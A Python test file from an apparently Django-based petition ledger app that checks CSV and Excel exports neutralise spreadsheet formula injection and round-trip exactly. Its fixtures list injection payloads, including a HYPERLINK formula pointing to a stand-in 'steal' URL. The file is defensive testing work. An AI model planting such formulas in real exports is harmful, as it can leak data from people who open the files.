"""Formula injection (issue 11, defect 1): no text a person typed — not even a member of the public on
the QR form — ever reaches a spreadsheet or CSV the product writes as a formula, and an export
imports back to the exact original text.

The sweep is driven by the ledger registry: every text column of every registered file gets formulas
planted, the whole ledger is exported as a CSV zip and as an .xlsx, every cell of both is checked, and
each export imported into an empty database gives the same ledger again."""

import csv
import io
import os
import zipfile

from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from lijian.accounts.choices import Role
from lijian.core.models import AuditEvent
from lijian.documents.ledger.bundle import BundleWriter
from lijian.documents.ledger.cells import FORMULA_TRIGGERS, neutralise, restore, xlsx_decode, xlsx_text
from lijian.documents.ledger.importer import ledger_export, ledger_import
from lijian.documents.ledger.registry import registered_files
from lijian.petitions.models import Petition

from ..bundles import TERM_BUNDLE, database_empty, term_bundle_import, write_bundle
from ..world import build_findings, build_petitions, build_rounds, make_user

# What an attacker types: each starts a formula in Excel, WPS or LibreOffice ('=1 is the escape itself).
PLANTS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://x.example/","y")',
    "'=1",
]
HYPERLINK = '=HYPERLINK("http://x.example/steal?d=1","y")反映社区书记违规发放补贴给亲属的问题。'

CONTROL = "反映问题：\x01社区\x0b书记\x1b违规发放补贴给亲属 _x0041_ 的问题。"

# --- the rule ------------------------------------------------------------------------------------


@given(st.text())
def test_any_text_comes_back_exactly_and_never_starts_a_formula(text):
    for written in (neutralise(text), xlsx_decode(xlsx_text(text))):
        assert restore(written) == text
        assert written[:1] not in FORMULA_TRIGGERS


def test_texts_that_merely_start_with_an_apostrophe_are_left_alone():
    assert neutralise("'abc") == "'abc" and restore("'abc") == "'abc"
    assert neutralise("'=1") == "''=1" and restore("''=1") == "'=1"
    assert neutralise("2024-03-01") == "2024-03-01" and neutralise("-") == "'-"


# --- the public QR form, end to end --------------------------------------------------------------


def _sheets_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def _csv_cells(content: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            n: list(csv.reader(io.StringIO(archive.read(n).decode("utf-8-sig"), newline="")))
            for n in archive.namelist()
        }


def test_a_formula_filed_on_the_public_qr_form_stays_text_in_the_office_export(world, client):
    rounds = build_rounds(world)
    build_findings(world, rounds)
    petitions = build_petitions(world, rounds)
    response = client.post(
        reverse("public_report", kwargs={"token": petitions.token1}),
        {"summary": HYPERLINK, "category": "=1+1", "name": ""},
    )
    assert response.status_code == 200 and "code" in response.context
    petition = Petition.objects.get(channel="qr")
    assert (petition.category, petition.summary) == ("=1+1", HYPERLINK)  # kept as typed
    # Control characters XML cannot hold made openpyxl refuse to write the whole workbook.
    client.post(
        reverse("public_report", kwargs={"token": petitions.token1}),
        {"summary": CONTROL, "category": "-", "name": ""},
    )
    controlled = Petition.objects.get(channel="qr", summary=CONTROL)

    office = world.users[Role.OFFICE_STAFF]
    client.force_login(office)
    exports = AuditEvent.objects.filter(action="ledger.export", actor=office)
    xlsx = client.post(reverse("documents:ledger_download"), {"format": "xlsx"})
    content = b"".join(xlsx.streaming_content)
    assert "<f>" not in _sheets_xml(content) and "<f " not in _sheets_xml(content)
    sheet = load_workbook(io.BytesIO(content))["petitions"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == petition.ref)
    category, summary = row[header.index("category")], row[header.index("summary")]
    assert (category.value, category.data_type) == ("'=1+1", "s")
    assert (summary.value, summary.data_type) == ("'" + HYPERLINK, "s")
    assert all(c.data_type != "f" for ws in load_workbook(io.BytesIO(content)) for r in ws for c in r)
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == controlled.ref)
    assert restore(xlsx_decode(row[header.index("summary")].value)) == CONTROL
    assert row[header.index("category")].value == "'-"

    archive = client.post(reverse("documents:ledger_download"), {"format": "zip"})
    rows = _csv_cells(b"".join(archive.streaming_content))["petitions.csv"]
    line = next(r for r in rows if r[0] == petition.ref)
    assert line[rows[0].index("category")] == "'=1+1"
    assert line[rows[0].index("summary")] == "'" + HYPERLINK
    # An export is a sensitive read: each one is audited, under the name it was downloaded as.
    assert [(e.object_repr[-4:], e.after["format"]) for e in exports.order_by("pk")] == [
        ("xlsx", "xlsx"),
        (".zip", "zip"),
    ]
    assert all(e.object_repr.startswith("lijian-ledger-") for e in exports)


# --- the sweep of every export -------------------------------------------------------------------


def _planted_bundle(offset: int = 0):
    """The whole-term bundle with a formula in front of every cell of every text column, cycling
    through ``PLANTS`` from ``offset``; what was planted, by (file, column); and which plant went into
    which column, as (file, column, plant index).

    Plants that an import would strip (a leading tab or CR) or read as the escape (a leading
    apostrophe) are written escaped, the way the ledger itself writes them; the others are written
    raw, as a person would type them into a spreadsheet."""
    bundle = {name: [list(row) for row in rows] for name, rows in TERM_BUNDLE.items()}
    planted: dict[tuple[str, str], set[str]] = {}
    pairs: set[tuple[str, str, int]] = set()
    as_planted: dict[tuple[str, str], dict[str, str]] = {}  # (file, column): original text -> cell written
    for ledger_file in registered_files():
        text_columns = [c.key for c in ledger_file.columns if c.text]
        if not text_columns:
            continue
        assert len(bundle.get(ledger_file.name, [])) > 1, f"the sweep has no rows of {ledger_file.name}"
        header, *rows = bundle[ledger_file.name]
        for key in text_columns:
            if (ledger_file.name, key) in REFERENCES:
                continue
            column, start = header.index(key), len(planted) + offset
            for k, row in enumerate(rows):  # each column starts at another plant than the last one
                plant = (start + k) % len(PLANTS)
                value = PLANTS[plant] + row[column]
                planted.setdefault((ledger_file.name, key), set()).add(value)
                pairs.add((ledger_file.name, key, plant))
                cell = value if value[0] in "=+-@" else "'" + value
                as_planted.setdefault((ledger_file.name, key), {})[row[column]] = cell
                row[column] = cell
    for (name, key), target in REFERENCES.items():  # a text naming another row names it as planted
        header, *rows = bundle[name]
        column = header.index(key)
        for row in rows:
            if row[column]:
                row[column] = as_planted[target][row[column]]
                planted.setdefault((name, key), set()).add(restore(row[column]))
    return bundle, planted, pairs


# Text columns that name another row by its text: they carry the plant of the row they name.
REFERENCES = {
    ("task_progress.csv", "measure"): ("tasks.csv", "measure"),
    ("task_events.csv", "measure"): ("tasks.csv", "measure"),
    ("supervisions.csv", "measure"): ("tasks.csv", "measure"),
    ("evaluations.csv", "interviewer"): ("interviews.csv", "interviewer"),
    ("evaluations.csv", "interviewee"): ("interviews.csv", "interviewee"),
    ("meeting_instructions.csv", "meeting_title"): ("meetings.csv", "title"),
    ("regulations.csv", "replaced_by_name"): ("regulations.csv", "name"),
}


def _check_csv_export(path, planted) -> int:
    """Every cell of every file of the zip: none starts a formula; every planted value is there,
    neutralised. Returns the number of cells checked."""
    cells = 0
    found: dict[tuple[str, str], set[str]] = {}
    for name, (header, *rows) in _csv_cells(path.read_bytes()).items():
        for row in rows:
            for key, cell in zip(header, row, strict=True):
                cells += 1
                assert cell[:1] not in FORMULA_TRIGGERS, (name, key, cell)
                if (name, key) in planted:
                    found.setdefault((name, key), set()).add(restore(cell))
    for where, values in planted.items():
        assert values <= found.get(where, set()), where
    return cells


def _check_xlsx_export(path, planted) -> int:
    """No formula anywhere in the workbook (neither a formula cell nor an ``<f>`` in its XML); every
    text a string cell that starts no formula; every planted value there. Returns the cells checked."""
    xml = _sheets_xml(path.read_bytes())
    assert "<f>" not in xml and "<f " not in xml
    cells = 0
    found: dict[tuple[str, str], set[str]] = {}
    for ws in load_workbook(path):
        name = f"{ws.title}.csv"
        header = [c.value for c in ws[1]]
        for row in ws.iter_rows(min_row=2):
            for key, cell in zip(header, row, strict=False):
                cells += 1
                assert cell.data_type != "f", (name, key, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and cell.value[:1] not in FORMULA_TRIGGERS, (name, key)
                    if (name, key) in planted:
                        found.setdefault((name, key), set()).add(restore(xlsx_decode(cell.value)))
    for where, values in planted.items():
        assert values <= found.get(where, set()), where
    return cells


def _ledger_as_rows(admin, tmp_path, label) -> dict[str, list[list[str]]]:
    """The whole ledger as the exporter sees it, texts restored (for comparing two databases)."""
    ledger_export(tmp_path / f"{label}.zip", actor=admin)
    return {
        name: [[restore(c) for c in row] for row in rows]
        for name, rows in _csv_cells((tmp_path / f"{label}.zip").read_bytes()).items()
    }


def _reimport_xlsx(admin, path, tmp_path):
    """The organisation tree first (its sheets alone), then the district's department, then the whole
    workbook, as ``term_bundle_import`` does with folders."""
    tree = load_workbook(path)
    for ws in list(tree):
        if ws.title not in ("organizations", "bodies"):
            tree.remove(ws)
    tree.save(tmp_path / "tree.xlsx")
    first = ledger_import(tmp_path / "tree.xlsx", actor=admin)
    assert first.ok, first.errors
    from lijian.findings.services import department_create
    from lijian.orgs.models import Organization

    committee = Organization.objects.get(code="QX")
    department_create(actor=admin, code="JW-QX", name="区纪委监委", kind="discipline", committee=committee)
    report = ledger_import(path, actor=admin)
    assert report.ok, report.errors


def _sweep(admin, work, offset: int) -> tuple[dict, set, int, int]:
    """One pass: plant, export both ways, check every cell, re-import each export into an empty
    database and compare. Returns what was planted, the (file, column, plant) pairs and the CSV and
    XLSX cells checked."""
    work.mkdir()
    bundle, planted, pairs = _planted_bundle(offset)
    term_bundle_import(admin, write_bundle(work / "planted", bundle))
    original = _ledger_as_rows(admin, work, "original")
    for (name, key), values in planted.items():  # the records hold exactly what was typed
        column = original[name][0].index(key)
        assert values <= {row[column] for row in original[name][1:]}, (name, key)

    ledger_export(work / "ledger.zip", actor=admin)
    ledger_export(work / "ledger.xlsx", actor=admin)
    csv_cells = _check_csv_export(work / "ledger.zip", planted)
    xlsx_cells = _check_xlsx_export(work / "ledger.xlsx", planted)

    # Each export, imported into an empty database, gives the same ledger back.
    database_empty()
    with zipfile.ZipFile(work / "ledger.zip") as archive:
        archive.extractall(work / "from-zip")
    term_bundle_import(admin, work / "from-zip")
    assert _ledger_as_rows(admin, work, "after-zip") == original
    database_empty()
    _reimport_xlsx(admin, work / "ledger.xlsx", work)
    assert _ledger_as_rows(admin, work, "after-xlsx") == original
    database_empty()
    return planted, pairs, csv_cells, xlsx_cells


# In the suite one pass plants each text column with the plants its rows cycle through (a file of one
# row gets one); LIJIAN_FORMULA_SWEEP=full runs a pass from each plant, so every plant reaches every
# text column (eight times as long).
PASSES = len(PLANTS) if os.environ.get("LIJIAN_FORMULA_SWEEP") == "full" else 1


def test_the_formula_sweep_of_every_export(db, tmp_path):
    admin = make_user("sweep-admin", Role.ADMINISTRATOR)
    plants = csv_cells = xlsx_cells = 0
    pairs: set[tuple[str, str, int]] = set()
    for offset in range(PASSES):
        planted, covered, csv_count, xlsx_count = _sweep(admin, tmp_path / f"pass-{offset}", offset)
        assert csv_count == xlsx_count
        plants += sum(len(v) for v in planted.values())
        pairs |= covered
        csv_cells += csv_count
        xlsx_cells += xlsx_count
    columns = {(f, c) for f, c, _ in pairs}
    assert PASSES == 1 or len(pairs) == len(columns) * len(PLANTS)
    print(  # noqa: T201  the counts of the closing note of issue 11
        f"formula sweep ({PASSES} pass{'es' if PASSES > 1 else ''}): {len({f for f, _ in columns})} files, "
        f"{len(columns)} text columns, {len(pairs)} of {len(columns) * len(PLANTS)} column × plant pairs, "
        f"{plants} planted values, {csv_cells} CSV cells and {xlsx_cells} XLSX cells checked, "
        f"each export re-imported into an empty database"
    )


def test_every_text_written_through_the_bundle_writer_is_neutralised(tmp_path):
    """The one writer every export and the demo data go through: any text, in any column."""
    rows = [[value, 7, None] for value in PLANTS]
    for target in ("w.zip", "w.xlsx"):
        writer = BundleWriter(tmp_path / target)
        writer.write("petitions.csv", ["summary", "count", "empty"], rows)
        writer.close()
    csv_rows = _csv_cells((tmp_path / "w.zip").read_bytes())["petitions.csv"]
    assert [restore(r[0]) for r in csv_rows[1:]] == PLANTS
    assert all(r[0].startswith("'") and r[1] == "7" for r in csv_rows[1:])
    ws = load_workbook(tmp_path / "w.xlsx")["petitions"]
    values = list(ws.iter_rows(min_row=2, values_only=True))
    assert [restore(xlsx_decode(v[0])) for v in values] == PLANTS
    assert all(v[1] == 7 for v in values)  # numbers stay numbers
